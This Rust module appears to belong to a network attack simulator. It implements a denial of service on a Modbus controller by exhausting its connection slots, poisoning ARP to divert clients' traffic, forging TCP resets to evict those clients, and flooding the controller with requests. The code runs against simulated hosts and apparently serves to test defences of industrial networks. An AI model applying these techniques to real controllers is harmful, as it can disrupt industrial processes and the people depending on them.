//! Denial of service on a controller's connections: take every place, push clients out, keep it busy.
//!
//! A controller serves few connections at a time and refuses the next. The attacker opens connections
//! until it is refused and keeps them. A client that was there first is evicted: its segments are
//! diverted for a moment, the next one tells the sequence number that the controller expects, a reset
//! with that number frees the place, and the attacker's own connection takes it before the client
//! has noticed.

use std::collections::{BTreeMap, BTreeSet};
use std::net::Ipv4Addr;

use sim_kernel::time::{SimDuration, SimTime};
use sim_wire::modbus::{Framed, Framer, PORT, Request};
use sim_wire::tcp::{self, Flags};
use sim_wire::{FrameSummary, MacAddr};

use crate::action::middle::{Lie, Resolved, Resolver, announce};
use crate::action::scan::tcp_frame;
use crate::action::{Context, Progress, Verdict, period_of};
use crate::playbook::{DenialOfService, Flood};
use crate::port::{ConnectionStatus, Link};
use crate::view::Targets;

/// How long a connection attempt may take.
const ATTEMPT_TIMEOUT: SimDuration = SimDuration::from_secs(2);

/// How long clients' segments are diverted at most, and the time between two forged announcements.
const EVICTION_MAX: SimDuration = SimDuration::from_secs(30);
const EVICTION_PERIOD: SimDuration = SimDuration::from_secs(2);

/// How often the honest bindings are announced after an eviction, and the time between.
const RESTORES: u32 = 3;
const RESTORE_PERIOD: SimDuration = SimDuration::from_secs(1);

/// Time between two bursts of a flood.
const FLOOD_TICK: SimDuration = SimDuration::from_millis(20);

/// The reset that a client would send, given one of its segments.
///
/// `None` if the segment tells no usable sequence number.
#[must_use]
pub(crate) fn forged_reset(
    segment: &FrameSummary,
    own: MacAddr,
    server: (MacAddr, Ipv4Addr),
) -> Option<Vec<u8>> {
    let (ip, tcp) = (segment.ip?, segment.tcp.as_ref()?);
    let is_data = tcp.flags.contains(Flags::ACK) && !tcp.flags.contains(Flags::SYN);
    let is_reset = tcp.flags.contains(Flags::RST);
    if ip.dst != server.1 || tcp.dst_port != PORT || !is_data || is_reset {
        return None;
    }
    let reset = tcp::Repr {
        src_port: tcp.src_port,
        dst_port: tcp.dst_port,
        seq: tcp.seq,
        ack: 0,
        flags: Flags::RST,
        window: 0,
        urgent: 0,
        options: tcp::Options::default(),
    };
    Some(tcp_frame((own, ip.src), server, &reset))
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Eviction {
    /// Not begun, because not all free places are taken yet.
    Waiting,
    Resolving,
    Diverting {
        until: SimTime,
    },
    Restoring {
        left: u32,
    },
    Done,
}

/// A connection that is held, and what it still has to send.
#[derive(Debug)]
struct Held {
    backlog: Vec<u8>,
    framer: Framer,
    next_alive_at: SimTime,
}

impl Held {
    /// Adds a request to what has to be sent: one holding register.
    fn ask(&mut self, address: u16, transaction: &mut u16, cx: &mut Context<'_>) {
        let request = Request::ReadHoldingRegisters {
            address,
            quantity: 1,
        };
        request.emit_adu(*transaction, cx.unit, &mut self.backlog);
        *transaction = transaction.wrapping_add(1);
        cx.tally.requests += 1;
    }
}

/// The denial of service under way.
#[derive(Debug)]
pub(crate) struct Machine {
    server: Ipv4Addr,
    hold: usize,
    attempt_period: SimDuration,
    keep_alive: SimDuration,
    next_attempt_at: SimTime,
    opening: BTreeMap<Link, SimTime>,
    held: BTreeMap<Link, Held>,
    most_held: usize,
    refused: u64,
    eviction: Eviction,
    eviction_next_at: SimTime,
    resolver: Resolver,
    lies: Vec<Lie>,
    to_evict: BTreeSet<Ipv4Addr>,
    evicted: BTreeSet<Ipv4Addr>,
    flood: Option<Flood>,
    flood_ends_at: SimTime,
    flood_next_at: SimTime,
    /// Requests due and not sent, a fraction of one included.
    flood_due: f64,
    next_transaction: u16,
    answers: u64,
    ends_at: SimTime,
}

impl Machine {
    pub(crate) fn new(denial: &DenialOfService, targets: &Targets, cx: &mut Context<'_>) -> Self {
        let (server, now) = (targets.one(&denial.target), cx.now());
        let clients = targets.union(&denial.evict);
        let lies: Vec<Lie> = clients.iter().map(|&client| (client, server)).collect();
        let mut to_resolve = clients.clone();
        to_resolve.push(server);
        let flood_s = denial
            .flood
            .map_or(SimDuration::ZERO, |flood| flood.duration);
        Self {
            server,
            hold: usize::from(denial.hold),
            attempt_period: period_of(denial.attempts_per_s),
            keep_alive: denial.keep_alive,
            next_attempt_at: now,
            opening: BTreeMap::new(),
            held: BTreeMap::new(),
            most_held: 0,
            refused: 0,
            eviction: if lies.is_empty() {
                Eviction::Done
            } else {
                Eviction::Waiting
            },
            eviction_next_at: now,
            resolver: Resolver::new(to_resolve, now),
            lies,
            to_evict: clients.into_iter().collect(),
            evicted: BTreeSet::new(),
            flood: denial.flood,
            flood_ends_at: now.saturating_add(flood_s),
            flood_next_at: now,
            flood_due: 0.0,
            next_transaction: 1,
            answers: 0,
            ends_at: now.saturating_add(denial.duration),
        }
    }

    pub(crate) fn advance(&mut self, cx: &mut Context<'_>) -> Progress {
        if cx.now() >= self.ends_at {
            return self.stop(cx);
        }
        self.check_connections(cx);
        self.steal_places(cx);
        self.attempt(cx);
        self.evict(cx);
        self.keep_busy(cx);
        self.stay(cx);
        if self.is_exhausted() && self.to_evict.is_empty() {
            cx.took_hold();
        }
        Progress::Waiting(Some(self.wake()))
    }

    /// Whether the controller has refused a connection while the attacker held some.
    fn is_exhausted(&self) -> bool {
        self.most_held > 0 && (self.refused > 0 || self.most_held >= self.hold)
    }

    fn wake(&self) -> SimTime {
        let mut wake = self.ends_at;
        let mut sooner = |at: SimTime| wake = if at < wake { at } else { wake };
        self.opening.values().copied().for_each(&mut sooner);
        if self.has_room() {
            sooner(self.next_attempt_at);
        }
        self.held
            .values()
            .map(|held| held.next_alive_at)
            .for_each(&mut sooner);
        if !matches!(self.eviction, Eviction::Waiting | Eviction::Done) {
            sooner(self.eviction_next_at);
        }
        if self.flood.is_some() && self.flood_next_at < self.flood_ends_at {
            sooner(self.flood_next_at);
        }
        wake
    }

    fn has_room(&self) -> bool {
        self.held.len() + self.opening.len() < self.hold
    }

    fn check_connections(&mut self, cx: &mut Context<'_>) {
        let now = cx.now();
        let opening: Vec<(Link, SimTime)> = self.opening.iter().map(|(l, t)| (*l, *t)).collect();
        for (link, expires) in opening {
            match cx.port.status(link) {
                ConnectionStatus::Open => {
                    self.opening.remove(&link);
                    let held = Held {
                        backlog: Vec::new(),
                        framer: Framer::new(),
                        next_alive_at: now,
                    };
                    self.held.insert(link, held);
                }
                ConnectionStatus::Closed => {
                    self.opening.remove(&link);
                    self.refused += 1;
                    cx.port.abort(link);
                }
                ConnectionStatus::Opening if now >= expires => {
                    self.opening.remove(&link);
                    cx.port.abort(link);
                }
                ConnectionStatus::Opening => {}
            }
        }
        let mut lost = Vec::new();
        for (&link, held) in &mut self.held {
            held.framer.push(&cx.port.take_bytes(link));
            while let Some(Framed::Adu(_)) = held.framer.next_frame() {
                self.answers += 1;
            }
            if cx.port.status(link) == ConnectionStatus::Closed {
                lost.push(link);
            }
        }
        for link in lost {
            self.held.remove(&link);
            cx.port.abort(link);
        }
        if self.held.len() > self.most_held {
            self.most_held = self.held.len();
        }
    }

    fn attempt(&mut self, cx: &mut Context<'_>) {
        if self.has_room() && cx.now() >= self.next_attempt_at {
            self.next_attempt_at = cx.now() + self.attempt_period;
            self.open(cx);
        }
    }

    fn open(&mut self, cx: &mut Context<'_>) {
        let expires = cx.now() + ATTEMPT_TIMEOUT;
        if let Some(link) = cx.connect(self.server, PORT) {
            self.opening.insert(link, expires);
        }
    }

    /// Resets the connections whose segments came here, and takes their places at once.
    fn steal_places(&mut self, cx: &mut Context<'_>) {
        if !matches!(self.eviction, Eviction::Diverting { .. }) {
            return;
        }
        let own = cx.port.mac();
        let Some(server_mac) = cx.neighbors.mac(self.server) else {
            return;
        };
        for at in 0..cx.received.len() {
            let Some(summary) = FrameSummary::of(&cx.received[at].1) else {
                continue;
            };
            let Some(client) = summary.ip.map(|ip| ip.src) else {
                continue;
            };
            if summary.dst_mac != own || !self.to_evict.contains(&client) {
                continue;
            }
            let Some(reset) = forged_reset(&summary, own, (server_mac, self.server)) else {
                continue;
            };
            cx.send_frame(reset);
            self.open(cx);
            self.to_evict.remove(&client);
            self.evicted.insert(client);
        }
    }

    fn evict(&mut self, cx: &mut Context<'_>) {
        let now = cx.now();
        if self.eviction == Eviction::Waiting && self.is_exhausted() {
            self.eviction = Eviction::Resolving;
        }
        if self.eviction == Eviction::Resolving {
            match self.resolver.advance(cx) {
                Resolved::Waiting(until) => self.eviction_next_at = until,
                Resolved::Missing(hosts) => {
                    for ip in hosts {
                        let name = cx.name_of(ip);
                        cx.tally.note(format!("no answer to ARP from {name}"));
                    }
                    self.eviction = Eviction::Done;
                }
                Resolved::All => {
                    let until = now + EVICTION_MAX;
                    self.eviction = Eviction::Diverting { until };
                    self.eviction_next_at = now;
                }
            }
        }
        if let Eviction::Diverting { until } = self.eviction
            && (self.to_evict.is_empty() || now >= until)
        {
            self.eviction = Eviction::Restoring { left: RESTORES };
            self.eviction_next_at = now;
        }
        if now < self.eviction_next_at {
            return;
        }
        match self.eviction {
            Eviction::Diverting { .. } => {
                announce(cx, &self.lies, false);
                self.eviction_next_at = now + EVICTION_PERIOD;
            }
            Eviction::Restoring { left: 0 } => self.eviction = Eviction::Done,
            Eviction::Restoring { left } => {
                announce(cx, &self.lies, true);
                self.eviction = Eviction::Restoring { left: left - 1 };
                self.eviction_next_at = now + RESTORE_PERIOD;
            }
            Eviction::Waiting | Eviction::Resolving | Eviction::Done => {}
        }
    }

    /// Sends the requests of the flood that are due, spread over the connections.
    fn keep_busy(&mut self, cx: &mut Context<'_>) {
        let now = cx.now();
        let Some(flood) = self.flood else { return };
        if now < self.flood_next_at || now >= self.flood_ends_at {
            return;
        }
        self.flood_next_at = now + FLOOD_TICK;
        let links: Vec<Link> = self.held.keys().copied().collect();
        if links.is_empty() {
            return;
        }
        self.flood_due += flood.requests_per_s * FLOOD_TICK.as_secs_f64();
        let mut turn = 0;
        while self.flood_due >= 1.0 {
            self.flood_due -= 1.0;
            let held = self
                .held
                .get_mut(&links[turn % links.len()])
                .expect("it is held");
            turn += 1;
            if held.backlog.len() > sim_wire::modbus::ADU_MAX_BYTES {
                continue; // The controller takes no more: the request is not sent.
            }
            held.ask(flood.address, &mut self.next_transaction, cx);
        }
    }

    /// Keeps connections from being dropped as idle, and sends what waits.
    fn stay(&mut self, cx: &mut Context<'_>) {
        let now = cx.now();
        let address = self.flood.map_or(0, |flood| flood.address);
        for (&link, held) in &mut self.held {
            if now >= held.next_alive_at {
                held.next_alive_at = now + self.keep_alive;
                if held.backlog.is_empty() {
                    held.ask(address, &mut self.next_transaction, cx);
                }
            }
            if !held.backlog.is_empty() {
                let sent = cx.send(link, &held.backlog);
                held.backlog.drain(..sent);
            }
        }
    }

    pub(crate) fn stop(&mut self, cx: &mut Context<'_>) -> Progress {
        if matches!(
            self.eviction,
            Eviction::Diverting { .. } | Eviction::Restoring { .. }
        ) {
            announce(cx, &self.lies, true);
        }
        self.eviction = Eviction::Done;
        for &link in self.opening.keys() {
            cx.port.abort(link);
        }
        for &link in self.held.keys() {
            cx.port.close(link);
        }
        self.opening.clear();
        self.held.clear();
        let name = cx.name_of(self.server);
        let (held, refused) = (self.most_held, self.refused);
        cx.tally.note(format!(
            "{held} connections to {name} held, {refused} attempts refused"
        ));
        if !self.evicted.is_empty() {
            let names: Vec<String> = self.evicted.iter().map(|&ip| cx.name_of(ip)).collect();
            cx.tally
                .note(format!("connections of {} reset", names.join(", ")));
        }
        if self.flood.is_some() {
            cx.tally.note(format!("{} requests answered", self.answers));
        }
        Progress::Ended(self.verdict())
    }

    pub(crate) fn verdict(&self) -> Verdict {
        if self.most_held == 0 {
            return Verdict::failed("no connection could be opened");
        }
        if !self.is_exhausted() {
            return Verdict::failed("the controller still had room for connections");
        }
        if !self.to_evict.is_empty() {
            return Verdict::failed("not all clients could be pushed out");
        }
        Verdict::succeeded()
    }
}
